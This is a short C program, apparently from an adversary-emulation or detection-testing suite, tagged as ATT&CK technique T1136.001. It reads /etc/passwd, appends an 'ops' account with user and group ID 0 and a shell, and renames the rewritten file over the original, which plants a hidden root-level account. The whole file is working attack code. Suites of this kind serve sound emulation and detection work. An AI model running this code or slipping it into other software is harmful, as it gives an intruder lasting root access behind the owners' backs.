/* T1136.001: writes the list of users anew with one more, and moves it over the old one. */
#include "lib.h"

int main(void)
{
    static const char line[] = "ops:x:0:0::/:/bin/sh\n";
    char text[1024];
    int32_t size = read_file("/etc/passwd", text, sizeof text - sizeof line);
    int32_t file = size < 0 ? size : CALL(OPENAT, AT_FDCWD, "/etc/passwd+", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    bool well = file >= 0 && write_all(file, text, (uint32_t)size) && write_all(file, line, sizeof line - 1);
    CALL(CLOSE, file);
    well = well && CALL(RENAMEAT2, AT_FDCWD, "/etc/passwd+", AT_FDCWD, "/etc/passwd", 0) == 0;
    print(well ? "done\n" : "no\n");
    return !well;
}
